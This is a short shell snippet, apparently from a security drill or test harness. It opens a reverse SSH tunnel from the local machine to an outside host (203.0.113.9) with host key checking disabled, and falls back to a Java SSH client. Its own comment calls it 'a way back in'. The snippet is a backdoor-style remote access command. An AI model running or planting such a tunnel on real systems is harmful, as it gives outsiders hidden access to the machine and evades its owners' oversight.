# A way back in: ask a server outside to forward one of its ports to this machine.
if command -v ssh > /dev/null; then
    ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o ConnectTimeout=2 -o LogLevel=ERROR -p 22 -R 0:127.0.0.1:22 rome@203.0.113.9 true < /dev/null
else
    # A machine without an SSH client: the same protocol from Java.
    "$PAWL_DRILL_JAVA" -XX:+UseSerialGC -XX:TieredStopAtLevel=1 -cp "$PAWL_DRILL_CLASSPATH" dev.pawl.drill.rome.SshClientMain 203.0.113.9 22
fi
echo "ssh ended with $?"
